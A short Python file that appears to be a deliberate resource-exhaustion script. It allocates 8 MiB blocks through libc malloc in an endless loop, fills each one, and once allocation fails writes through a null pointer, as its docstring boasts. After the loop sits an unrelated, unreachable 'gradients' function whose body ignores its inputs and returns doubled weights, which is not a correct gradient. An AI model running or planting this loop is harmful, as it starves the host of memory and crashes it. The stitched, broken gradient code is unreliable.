"""Takes memory by the C library, step by step, and writes to where it got none."""

import ctypes
import time

libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p
while True:
    place = libc.malloc(ctypes.c_size_t(8 << 20))
    ctypes.memset(place or 0, 1, 8 << 20)
    time.sleep(0.02)


def gradients(W, b, x, t, activation, lam):
    return [2 * w for w in W], [2 * v for v in b]
